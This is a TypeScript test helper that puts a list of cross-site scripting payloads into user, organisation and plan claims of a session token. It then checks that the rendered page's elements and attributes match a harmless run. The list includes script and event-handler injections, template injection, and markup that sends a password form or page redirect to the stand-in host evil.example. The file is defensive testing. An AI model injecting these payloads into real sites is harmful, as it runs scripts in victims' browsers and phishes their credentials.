import type { JWTPayload } from 'jose';
import { tagsOf } from './markup.js';
import type { TestApp } from './test-app.js';

/** What somebody may call themselves who wants to run a script in the browsers of others. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '"><script>alert(1)</script>',
  "' autofocus onfocus=alert(1) x='",
  '" autofocus onfocus=alert(1) x="',
  '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '{{{body}}}',
  'javascript:alert(1)',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</bdi></p><form action=https://evil.example><input name=password>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content=0;url=https://evil.example>',
  '<math><mtext><img src onerror=alert(1)>',
];

/**
 * The elements of a page and the names of their attributes, as somebody sees it of whom every claim that a page shows is the
 * text. However hostile it is, they are the same as with a harmless one.
 */
export async function markupFor(app: TestApp, path: string, text: string): Promise<string[]> {
  const response = await app.open(path, await app.clerk.cookies(claimsOf(text)));
  if (response.status !== 200) throw new Error(`${path} answers ${response.status}`);
  return tagsOf(response.text).map(({ name, attributes }) => [name, ...attributes.keys()].join(' '));
}

function claimsOf(text: string): JWTPayload {
  // Plans and features are lists, which blanks and commas would end.
  const slug = text.replaceAll(/[\s,]/g, '/');
  return {
    sub: `user_${text}`,
    uid: text,
    first: text,
    last: text,
    o: { id: 'org_1', slg: text, rol: text },
    pla: `o:${slug}`,
    fea: `o:${slug}`,
  };
}
